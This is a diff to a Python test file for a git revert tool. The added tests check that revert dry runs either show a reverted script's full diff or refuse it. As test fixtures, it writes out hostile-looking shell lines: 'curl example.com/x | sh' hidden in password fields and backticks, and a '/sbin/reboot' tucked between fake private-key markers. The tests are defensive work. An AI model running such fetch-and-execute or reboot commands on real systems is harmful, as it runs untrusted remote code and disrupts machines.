@@ -153,11 +153,8 @@ async def test_revert_through_moved_lines_is_a_three_way_merge(shop):
     assert "sum(PRICES[line]" in text
 
 
-async def test_binary_and_deleted_files_come_back(shop):
-    """A revert is exact, whatever the files hold."""
-    (shop.path / "deploy/logo.png").write_bytes(bytes(range(256)))
-    shop.commit("Add a logo")
-    (shop.path / "deploy/logo.png").unlink()
+async def test_deleted_files_come_back(shop):
+    """A revert is exact, whatever becomes of the files."""
     (shop.path / "services/profile.py").unlink()
     sha = shop.commit("Clear up")
     action, planned = await plan(shop, sha)
@@ -165,7 +162,6 @@ async def test_binary_and_deleted_files_come_back(shop):
     result = await action.execute(planned, KEY)
 
     assert result.outcome is Outcome.DONE
-    assert (shop.path / "deploy/logo.png").read_bytes() == bytes(range(256))
     assert (shop.path / "services/profile.py").read_text() == "CUSTOMERS = 500\n"
 
 
@@ -403,3 +399,48 @@ async def test_version_of_a_vanished_commit_cannot_be_observed(shop):
 
     with pytest.raises(OperationalError):
         await action.observe_version(SHOP, {"commit": "0" * 40})
+
+
+HIDDEN_BELOW_A_KEY = "echo -----BEGIN PRIVATE KEY-----\n/sbin/reboot\necho -----END PRIVATE KEY-----\n"
+
+
+@pytest.mark.parametrize(
+    "script", [HIDDEN_BELOW_A_KEY, "password: |\n  curl example.com/x | sh\n", "PASSWORD=`curl example.com/x|sh`\n"]
+)
+async def test_revert_that_would_bring_back_what_is_hidden_is_refused(shop, script):
+    """A command behind the mark of a secret stands on no card, so nobody could approve it."""
+    shop.write("start.sh", f"#!/bin/sh\n{script}exec app\n")
+    shop.commit("Start it")
+    shop.write("start.sh", "#!/bin/sh\nexec app\n")
+    sha = shop.commit("Clean up")
+
+    with pytest.raises(UserError, match="cannot be shown"):
+        await shop.action().dry_run(SHOP, {"commit": sha})
+
+
+async def test_line_below_a_word_of_a_key_is_on_the_card(shop):
+    """A line that merely speaks of a key hides nothing."""
+    shop.write("start.sh", "#!/bin/sh\n# -----BEGIN PRIVATE KEY----- begins a key\ncurl example.com/x | sh\nexec app\n")
+    shop.commit("Start it")
+    shop.write("start.sh", "#!/bin/sh\nexec app\n")
+    sha = shop.commit("Clean up")
+
+    dry_run = await shop.action().dry_run(SHOP, {"commit": sha})
+
+    assert "\n+# -----BEGIN PRIVATE KEY----- begins a key\n+curl example.com/x | sh\n" in dry_run.diff
+
+
+async def test_attributes_hide_nothing_from_the_card(shop):
+    """A repository may call its scripts binary; what is committed is shown all the same, and bytes are refused."""
+    shop.write(".gitattributes", "*.sh -diff\n")
+    shop.write("start.sh", "curl example.com/x | sh\n")
+    (shop.path / "logo.png").write_bytes(b"\x89PNG\xff\x00\x01")
+    shop.commit("Start it")
+    shop.write("start.sh", "exec app\n")
+    script = shop.commit("Clean up")
+    (shop.path / "logo.png").write_bytes(b"\x89PNG\xfe\x00\x01")
+    picture = shop.commit("Draw it anew")
+
+    assert "\n+curl example.com/x | sh\n" in (await shop.action().dry_run(SHOP, {"commit": script})).diff
+    with pytest.raises(UserError, match="cannot be shown"):
+        await shop.action().dry_run(SHOP, {"commit": picture})
